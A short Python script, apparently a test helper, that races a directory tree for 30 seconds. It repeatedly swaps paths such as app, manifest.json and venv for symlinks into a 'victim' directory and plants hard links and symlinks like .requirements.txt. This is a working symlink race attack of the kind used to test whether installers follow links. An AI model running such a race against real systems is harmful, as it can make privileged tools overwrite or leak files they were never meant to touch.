"""Puts links to a victim in the place of a tree and of what is in it, over and over, wherever its user may."""

import os
import sys
import time

tree, victim = sys.argv[1:]
end = time.monotonic() + 30


def attempt(act, *paths):
    try:
        act(*paths)
        return True
    except OSError:
        return False


def swap(path, target):
    if attempt(os.rename, path, path + ".aside"):
        attempt(os.symlink, target, path)
        attempt(os.unlink, path)
        attempt(os.rename, path + ".aside", path)


print("swapping", flush=True)
while time.monotonic() < end:
    swap(tree, victim)
    for name in ("app", "app/pkg", "app/pkg/deep", "manifest.json", "venv", "app/pkg/file.py"):
        swap(f"{tree}/{name}", f"{victim}/{name}")
    attempt(os.link, f"{victim}/app/pkg/file.py", f"{tree}/app/pkg/linked.py")
    attempt(os.symlink, f"{victim}/.complete", f"{tree}/venv/.complete")
    attempt(os.symlink, f"{victim}/app/pkg/file.py", f"{tree}/.requirements.txt")
    attempt(os.symlink, f"{victim}/app", f"{tree}/venv.tmp")
